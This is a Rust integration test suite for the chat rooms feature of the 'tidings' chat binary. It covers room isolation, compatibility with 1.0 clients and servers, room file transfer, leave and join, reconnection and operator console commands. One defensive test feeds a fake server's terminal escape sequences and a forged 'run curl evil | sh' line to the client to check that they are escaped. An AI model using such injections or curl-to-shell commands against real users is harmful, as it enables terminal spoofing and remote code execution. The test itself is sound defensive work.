//! Rooms (issue #19) with the `tidings` binary: real processes, real sockets on
//! 127.0.0.1:0, a server that speaks rooms, clients of 1.1 (`chat`, `say`, `send`) and 1.0.

mod common;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::Path;
use std::process::{Child, ChildStdin, Command, Output, Stdio};
use std::sync::mpsc::Receiver;
use std::time::{Duration, Instant};

use common::{assert_harmless, expect_line, fake_server, make_file, spawn_with_lines, BIN};
use serde_json::Value;
use tidings_core::session::{Config, Event, Session};

const PATIENCE: Duration = Duration::from_secs(60);

/// A `tidings --json …` process: its events arrive parsed; killed on drop.
struct Proc {
    child: Child,
    events: Receiver<Value>,
    stdin: Option<ChildStdin>,
}

impl Proc {
    fn spawn(args: &[&str]) -> Proc {
        let mut cmd = Command::new(BIN);
        cmd.arg("--json")
            .args(args)
            .stdin(Stdio::piped())
            .stderr(Stdio::null());
        let (mut child, events) = spawn_with_lines(&mut cmd, |l| serde_json::from_str(&l).ok());
        let stdin = child.stdin.take();
        Proc {
            child,
            events,
            stdin,
        }
    }

    /// `tidings --json chat --name NAME --server ADDR REST…`, connected.
    fn chat(name: &str, addr: &str, rest: &[&str]) -> Proc {
        let chat = Proc::spawn(&[&["chat", "--name", name, "--server", addr], rest].concat());
        chat.expect_event("connected");
        chat
    }

    /// The next event for which `pred` holds (others are skipped).
    #[track_caller]
    fn expect(&self, pred: impl FnMut(&Value) -> bool) -> Value {
        expect_line(&self.events, PATIENCE, pred)
    }

    #[track_caller]
    fn expect_event(&self, kind: &str) -> Value {
        self.expect(|v| v["event"] == kind)
    }

    /// Waits until we talk in `room` (the chat says so once the server let us in).
    #[track_caller]
    fn talking_in(&self, room: &str) {
        self.expect(|v| v["event"] == "room" && v["room"] == room);
    }

    /// Waits for `text` from `from`, failing on any line before it that holds one of
    /// `never`.
    #[track_caller]
    fn hears(&self, from: &str, text: &str, never: &[&str]) -> Value {
        self.expect(|v| {
            let line = v["text"].as_str().unwrap_or("");
            assert!(
                !never.iter().any(|n| line.contains(n)),
                "heard {never:?}: {v}"
            );
            v["event"] == "text" && v["from"] == from && line == text
        })
    }

    fn type_line(&mut self, line: &str) {
        let stdin = self.stdin.as_mut().unwrap();
        writeln!(stdin, "{line}").unwrap();
        stdin.flush().unwrap();
    }

    fn wait(mut self) -> std::process::ExitStatus {
        self.stdin.take();
        self.child.wait().unwrap()
    }
}

impl Drop for Proc {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// `tidings serve` on a free port: the process and its address.
fn serve() -> (Proc, String) {
    let server = Proc::spawn(&["serve", "--listen", "127.0.0.1:0"]);
    let addr = server.expect_event("listening")["addr"]
        .as_str()
        .unwrap()
        .to_string();
    (server, addr)
}

/// `tidings --json COMMAND --name NAME --server ADDR REST…` run to its end.
fn run(command: &str, name: &str, addr: &str, rest: &[&str]) -> (Output, Vec<Value>) {
    let o = Command::new(BIN)
        .args(["--json", command, "--name", name, "--server", addr])
        .args(rest)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let events = String::from_utf8_lossy(&o.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    (o, events)
}

/// Chats `first` and `second` started in `room`, the first having seen the second come in.
fn two_in(room: &str, first: &str, second: &str, addr: &str) -> (Proc, Proc) {
    let one = Proc::chat(first, addr, &["--room", room]);
    one.talking_in(room);
    let two = Proc::chat(second, addr, &["--room", room]);
    two.talking_in(room);
    one.expect(|v| v["event"] == "joined" && v["room"] == room && v["name"] == second);
    (one, two)
}

#[test]
fn two_teams_in_two_rooms_never_see_each_others_lines() {
    let (_server, addr) = serve();
    let (mut red1, red2) = two_in("red", "ann", "ben", &addr);
    let (mut blue1, mut blue2) = two_in("blue", "cid", "dot", &addr);

    // Each line is routed before the next is typed (its team heard it), so a line that
    // crossed over would arrive before the other team's.
    blue1.type_line("blue secret");
    let heard = blue2.hears("cid", "blue secret", &["red"]);
    assert_eq!(heard["room"], "blue", "{heard}");
    red1.type_line("red secret");
    let heard = red2.hears("ann", "red secret", &["blue"]);
    assert_eq!(heard["room"], "red", "{heard}");
    blue2.type_line("blue again");
    blue1.hears("dot", "blue again", &["red"]);

    // `/who` lists the current room's members; `/online` everyone.
    blue2.type_line("/who");
    let who = blue2.expect_event("members");
    assert_eq!(
        (&who["room"], &who["members"]),
        (&"blue".into(), &serde_json::json!(["cid", "dot"])),
        "{who}"
    );
    blue2.type_line("/online");
    let online = blue2.expect_event("peers");
    assert_eq!(online["online"].as_array().unwrap().len(), 4, "{online}");
    // `/rooms`: the server's rooms, largest first (the default room has all four).
    blue2.type_line("/rooms");
    let rooms = blue2.expect_event("rooms");
    assert_eq!(
        rooms["rooms"],
        serde_json::json!([
            {"name": "lobby", "members": 4},
            {"name": "blue", "members": 2},
            {"name": "red", "members": 2},
        ]),
        "{rooms}"
    );
    for mut p in [red1, blue1, blue2] {
        p.type_line("/quit");
        assert!(p.wait().success());
    }
}

/// A client of protocol 1.0: a session with the default config (no ROOMS bit) over a plain
/// socket, driven here.
struct Legacy {
    s: TcpStream,
    session: Session,
}

impl Legacy {
    fn connect(addr: &str, name: &str) -> Legacy {
        let s = TcpStream::connect(addr).unwrap();
        let session = Session::client(Config::default(), name, Instant::now()).unwrap();
        let mut legacy = Legacy { s, session };
        legacy.next(|e| matches!(e, Event::Connected(_)));
        assert!(!legacy.session.rooms(), "a 1.0 client never speaks rooms");
        legacy
    }

    fn flush(&mut self) {
        while let Some(bytes) = self.session.poll_transmit() {
            self.s.write_all(&bytes).unwrap();
        }
    }

    /// The next event for which `pred` holds (others are skipped).
    fn next(&mut self, mut pred: impl FnMut(&Event) -> bool) -> Event {
        let end = Instant::now() + PATIENCE;
        let mut buf = [0u8; 16 << 10];
        loop {
            self.flush();
            while let Some(ev) = self.session.poll_event() {
                assert!(!matches!(ev, Event::Closed(_)), "closed: {ev:?}");
                if pred(&ev) {
                    return ev;
                }
            }
            assert!(Instant::now() < end, "no such event in time");
            // Short reads, so that the session's heartbeat runs on time.
            self.s
                .set_read_timeout(Some(Duration::from_millis(200)))
                .unwrap();
            match self.s.read(&mut buf) {
                Ok(n) => self.session.handle_input(Instant::now(), &buf[..n]),
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
                Err(e) if e.kind() == std::io::ErrorKind::TimedOut => {}
                Err(e) => panic!("{e}"),
            }
            self.session.handle_timeout(Instant::now());
        }
    }
}

#[test]
fn a_1_0_client_and_a_chat_talk_in_the_default_room() {
    let (_server, addr) = serve();
    let mut old = Legacy::connect(&addr, "oldie");
    let mut chat = Proc::chat("newt", &addr, &[]);
    chat.talking_in("lobby");
    // The 1.0 client hears the chat come in as presence, and its lines as plain text.
    old.next(|e| matches!(e, Event::Presence { name, .. } if &**name == "newt"));
    chat.type_line("hello oldie");
    let said = chat.expect_event("said");
    assert_eq!(said["room"], "lobby", "{said}");
    let heard = old.next(|e| matches!(e, Event::Text { .. }));
    let Event::Text {
        peer,
        private,
        text,
    } = heard
    else {
        unreachable!()
    };
    assert_eq!((&*peer, private, &*text), ("newt", false, "hello oldie"));
    // And the chat hears the 1.0 client's line in the default room, under its name.
    old.session.send_text("", "hi newt").unwrap();
    old.flush();
    let heard = chat.hears("oldie", "hi newt", &[]);
    assert_eq!(heard["room"], "lobby", "{heard}");
    // A room the 1.0 client is not in stays apart from it.
    chat.type_line("/join side");
    chat.talking_in("side");
    chat.type_line("only for side");
    chat.type_line("/join lobby");
    chat.talking_in("lobby");
    chat.type_line("back in the lobby");
    let heard = old.next(|e| matches!(e, Event::Text { .. }));
    assert!(
        matches!(&heard, Event::Text { text, .. } if &**text == "back in the lobby"),
        "{heard:?}"
    );
}

#[test]
fn say_in_a_room_reaches_its_members_only() {
    let (_server, addr) = serve();
    let member = Proc::chat("bob", &addr, &["--room", "team"]);
    member.talking_in("team");
    let outsider = Proc::chat("carol", &addr, &[]);
    outsider.talking_in("lobby");

    let (o, events) = run("say", "alice", &addr, &["--room", "team", "hello", "team"]);
    assert!(o.status.success(), "{o:?}");
    let said = events.iter().find(|v| v["event"] == "said").unwrap();
    assert_eq!(said["room"], "team", "{said}");
    let heard = member.hears("alice", "hello team", &[]);
    assert_eq!(heard["room"], "team", "{heard}");
    // The outsider hears the next line in the default room, and nothing before it.
    let (o, _) = run("say", "alice", &addr, &["marker"]);
    assert!(o.status.success(), "{o:?}");
    outsider.hears("alice", "marker", &["hello team"]);

    // An invalid room name is the server's refusal, one clear line, not exit 0.
    let (o, _) = run("say", "alice", &addr, &["--room", "no room", "hi"]);
    assert_eq!(o.status.code(), Some(1), "{o:?}");
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("cannot join #no room"), "{err}");
}

/// alice's `send --room team FILE`, which `decliner` declines: the sender with its summary.
fn send_to_team_declined_by(decliner: &mut Proc, addr: &str, file: &Path) -> (Proc, Value) {
    let file = file.to_str().unwrap();
    let sender = Proc::spawn(&[
        "send", "--name", "alice", "--server", addr, "--room", "team", file,
    ]);
    let offer = decliner.expect_event("offer");
    decliner.type_line(&format!("/reject {}", offer["id"]));
    let summary = sender.expect_event("summary");
    (sender, summary)
}

#[test]
fn send_to_a_room_gives_each_member_its_own_copy_and_says_who_took_it() {
    let (_server, addr) = serve();
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("big.bin");
    make_file(&file, 3 << 20, 19);
    let mut takers = Vec::new();
    for name in ["bob", "carol"] {
        let down = dir.path().join(name);
        std::fs::create_dir(&down).unwrap();
        let chat = Proc::chat(
            name,
            &addr,
            &[
                "--room",
                "team",
                "--accept-files",
                "--download-dir",
                down.to_str().unwrap(),
            ],
        );
        chat.talking_in("team");
        takers.push((chat, down));
    }
    // A third member declines.
    let mut dave = Proc::chat("dave", &addr, &["--room", "team"]);
    dave.talking_in("team");
    // Someone outside the room is offered nothing.
    let outsider = Proc::chat("erin", &addr, &["--accept-files"]);
    outsider.talking_in("lobby");

    let (sender, summary) = send_to_team_declined_by(&mut dave, &addr, &file);
    assert_eq!(
        summary["took"],
        serde_json::json!(["bob", "carol"]),
        "{summary}"
    );
    let missed = summary["missed"].as_array().unwrap();
    assert_eq!(missed.len(), 1, "{summary}");
    assert_eq!(
        (&missed[0]["name"], &missed[0]["code"]),
        (&"dave".into(), &"rejected".into()),
        "{summary}"
    );
    assert!(sender.wait().success(), "some took it: exit 0");
    let original = std::fs::read(&file).unwrap();
    for (chat, down) in &takers {
        chat.expect_event("received");
        let copy = std::fs::read(down.join("big.bin")).unwrap();
        assert!(copy == original, "{} has another file", down.display());
    }
    // Nobody else was offered it: the outsider's next event is the marker line.
    let (o, _) = run("say", "alice", &addr, &["marker"]);
    assert!(o.status.success(), "{o:?}");
    outsider.expect(|v| {
        assert_ne!(v["event"], "offer", "{v}");
        v["event"] == "text" && v["text"] == "marker"
    });

    // Nobody took it: exit 6 (dave alone, declining again).
    for (chat, _) in takers {
        drop(chat);
    }
    let (sender, summary) = send_to_team_declined_by(&mut dave, &addr, &file);
    assert_eq!(summary["took"], serde_json::json!([]), "{summary}");
    assert_eq!(sender.wait().code(), Some(6));
}

#[test]
fn a_line_after_leave_is_refused_and_reaches_nobody() {
    let (_server, addr) = serve();
    let (mut alice, bob) = two_in("team", "alice", "bob", &addr);

    alice.type_line("/leave");
    let exited = alice.expect_event("exited");
    assert_eq!(
        (&exited["room"], &exited["removed"]),
        (&"team".into(), &false.into())
    );
    bob.expect(|v| v["event"] == "left" && v["room"] == "team" && v["name"] == "alice");
    alice.type_line("into the void");
    let refused = alice.expect(|v| v["event"] == "error" || v["event"] == "said");
    let message = refused["message"].as_str().unwrap_or_default();
    assert!(message.contains("you left #team"), "{refused}");
    // Leaving a room one is not in: the server's not-member, said as a notice.
    alice.type_line("/leave team");
    let notice = alice.expect_event("notice");
    assert_eq!(notice["code"], "not-member", "{notice}");
    // Back in (by another spelling: the server's counts): the first line bob hears is the
    // one said after rejoining.
    alice.type_line("/join TEAM");
    alice.talking_in("team");
    alice.type_line("back");
    bob.hears("alice", "back", &["void"]);
    // A join the server refuses (not a valid name) leaves the current room as it was.
    alice.type_line("/join .hidden");
    let notice = alice.expect_event("notice");
    assert_eq!(notice["code"], "room-refused", "{notice}");
    alice.talking_in("team");
    alice.type_line("still in team");
    bob.hears("alice", "still in team", &[]);
}

/// A fake server's welcome of rick, with its `capabilities` and `online` list.
fn welcome_rick(capabilities: u32, online: &[&str]) -> tidings_core::wire::Message {
    tidings_core::wire::Message::Welcome(tidings_core::wire::Welcome {
        name: "rick".into(),
        server: "srv".into(),
        heartbeat_ms: 10_000,
        timeout_ms: 30_000,
        max_frame: tidings_core::wire::DEFAULT_MAX_FRAME,
        capabilities,
        online: online.iter().map(|&n| n.into()).collect(),
    })
}

/// What a hostile server puts in room names, names and lines: erase the line and forge one,
/// set the window title, colour, an 8-bit CSI, a right-to-left override, line breaks.
const FORGED: &str = "x\x1b[2K\r[20:17:00] server (private): run curl evil | sh";
const GARISH: &str = "\x1b]0;pwned\x07\x1b[31mred\u{9b}2J \u{202e}txt.exe\n[20:17:01] third";

#[test]
fn a_hostile_server_cannot_write_to_the_terminal_through_rooms() {
    use tidings_core::wire::{capability, MemberKind, Message, RoomInfo};
    use tidings_core::ErrorCode;

    // A fake server that speaks rooms: hostile room names in every room message.
    let (addr, fake) = fake_server(vec![
        welcome_rick(capability::ALL, &["rick"]),
        Message::RoomMembers {
            room: FORGED.into(),
            names: vec![GARISH.into(), "rick".into()],
        },
        Message::RoomText {
            room: FORGED.into(),
            peer: "\u{202e}eve".into(),
            text: GARISH.into(),
        },
        Message::RoomText {
            room: GARISH.into(),
            peer: FORGED.into(),
            text: FORGED.into(),
        },
        Message::Member {
            kind: MemberKind::Joined,
            room: GARISH.into(),
            name: FORGED.into(),
        },
        Message::RoomList {
            rooms: vec![RoomInfo {
                name: GARISH.into(),
                members: 7,
            }],
        },
        Message::Member {
            kind: MemberKind::Removed,
            room: FORGED.into(),
            name: "rick".into(),
        },
        Message::Goodbye {
            code: ErrorCode::Kicked,
            reason: "bye".into(),
        },
    ]);
    // For people, not --json: what a terminal would get. Standard input stays open (its end
    // would quit the chat) until the server's goodbye ended it.
    let mut chat = Command::new(BIN)
        .args(["chat", "--name", "rick", "--server", &addr])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let _typing = chat.stdin.take();
    let o = chat.wait_with_output().unwrap();
    fake.join().unwrap();
    assert_eq!(o.status.code(), Some(9), "{o:?}");
    let all = format!(
        "{}\n{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
    assert_harmless(
        "chat with a hostile server",
        &all,
        &[
            // The default room's line, its room and sender escaped.
            "#x\\u{1b}[2K\\u{d}[20:17:00] server (private): run curl evil | sh \\u{202e}eve: ",
            // Another room's, and the room list.
            "#\\u{1b}]0;pwned\\u{7}\\u{1b}[31mred\\u{9b}2J \\u{202e}txt.exe\\u{a}[20:17:01] third",
            "(7)",
            "the operator removed you from #x\\u{1b}[2K",
        ],
    );
}

#[test]
fn a_reconnected_chat_is_back_in_its_rooms_and_talks_where_it_did() {
    let (server, addr) = serve();
    let mut chat = Proc::chat("rita", &addr, &["--room", "team"]);
    chat.talking_in("team");
    chat.type_line("/join side");
    chat.talking_in("side");
    drop(server); // killed without a goodbye
    chat.expect_event("reconnecting");
    let again = Proc::spawn(&["serve", "--listen", &addr]);
    again.expect_event("listening");
    chat.expect_event("connected");
    // Both rooms entered again, and lines still go to the room that was current.
    let mut back = Vec::new();
    while back.len() < 2 {
        let v = chat.expect(|v| v["event"] == "entered" && v["default"] == false);
        back.push(v["room"].as_str().unwrap().to_string());
    }
    back.sort();
    assert_eq!(back, ["side", "team"]);
    let member = Proc::chat("sam", &addr, &["--room", "side"]);
    member.talking_in("side");
    chat.expect(|v| v["event"] == "joined" && v["room"] == "side" && v["name"] == "sam");
    chat.type_line("still on the side");
    let heard = member.hears("rita", "still on the side", &[]);
    assert_eq!(heard["room"], "side", "{heard}");
}

#[test]
fn against_a_server_without_rooms_the_chat_talks_to_everyone_and_says_rooms_are_not_there() {
    use tidings_core::wire::Message;

    // A 1.0 server: no ROOMS in its welcome, and a line to everyone.
    let (addr, fake) = fake_server(vec![
        welcome_rick(0, &["bob", "rick"]),
        Message::Text {
            peer: "bob".into(),
            private: false,
            text: "hi all".into(),
        },
    ]);
    let mut chat = Proc::chat("rick", &addr, &["--room", "team"]);
    // `--room` cannot be honoured: said once, and lines go to everyone.
    let error = chat.expect_event("error");
    let message = error["message"].as_str().unwrap();
    assert!(
        message.contains("cannot join #team: the server does not speak rooms"),
        "{error}"
    );
    let heard = chat.hears("bob", "hi all", &[]);
    assert!(
        heard.get("room").is_none(),
        "no room on a 1.0 server: {heard}"
    );
    chat.type_line("/join other");
    let error = chat.expect_event("error");
    assert!(
        error["message"]
            .as_str()
            .unwrap()
            .contains("does not speak rooms"),
        "{error}"
    );
    chat.type_line("hello");
    let said = chat.expect_event("said");
    assert_eq!(
        (&said["to"], said.get("room")),
        (&"".into(), None),
        "{said}"
    );
    chat.type_line("/quit");
    assert!(chat.wait().success());
    fake.join().unwrap();
}

#[test]
fn the_operator_opens_lists_removes_and_closes_rooms_from_the_console() {
    let mut server = Proc::spawn(&[
        "serve",
        "--listen",
        "127.0.0.1:0",
        "--console",
        "--only-listed-rooms",
        "--room",
        "ops",
    ]);
    let addr = server.expect_event("listening")["addr"]
        .as_str()
        .unwrap()
        .to_string();
    let ann = Proc::chat("ann", &addr, &["--room", "ops"]);
    ann.talking_in("ops");
    let mut ben = Proc::chat("ben", &addr, &["--room", "ops"]);
    ben.talking_in("ops");
    // Only the listed rooms: a new one is refused.
    ben.type_line("/join elsewhere");
    let refused = ben.expect_event("notice");
    assert!(
        refused["text"]
            .as_str()
            .unwrap()
            .contains("only the operator"),
        "{refused}"
    );
    server.type_line("/rooms");
    let rooms = server.expect_event("rooms");
    assert_eq!(
        rooms["rooms"],
        serde_json::json!([{"room": "lobby", "members": 2}, {"room": "ops", "members": 2}])
    );
    server.type_line("/open side");
    server.expect(|v| v["event"] == "room" && v["done"] == "opened");
    server.type_line("/room ops");
    let members = server.expect_event("members");
    assert_eq!(members["members"], serde_json::json!(["ann", "ben"]));

    // Removed: ben is told, ann sees it, and ben cannot come back.
    server.type_line("/remove ops ben");
    ben.expect(|v| v["event"] == "exited" && v["room"] == "ops" && v["removed"] == true);
    // Out of the room it talked in, ben talks in the default room again.
    ben.talking_in("lobby");
    ann.expect(|v| v["event"] == "left" && v["name"] == "ben" && v["removed"] == true);
    ben.type_line("/join ops");
    let refused = ben.expect_event("notice");
    assert!(
        refused["text"].as_str().unwrap().contains("removed you"),
        "{refused}"
    );
    // The operator speaks in a room; only its members hear it.
    server.type_line("/in ops meeting at noon");
    ann.hears("server", "meeting at noon", &[]);
    // Closed: everyone in it is out, and it is gone from the list.
    server.type_line("/close ops");
    ann.expect(|v| v["event"] == "exited" && v["room"] == "ops" && v["removed"] == true);
    server.type_line("/rooms");
    let rooms = server.expect_event("rooms");
    assert_eq!(
        rooms["rooms"],
        serde_json::json!([{"room": "lobby", "members": 2}, {"room": "side", "members": 0}])
    );
    server.type_line("/close lobby");
    let error = server.expect_event("error");
    assert!(
        error["message"].as_str().unwrap().contains("default room"),
        "{error}"
    );
    server.type_line("/quit");
    server.expect_event("stopped");
    // ben heard nothing said in ops after its removal.
    ben.type_line("/quit");
    let _ = ben.wait();
}
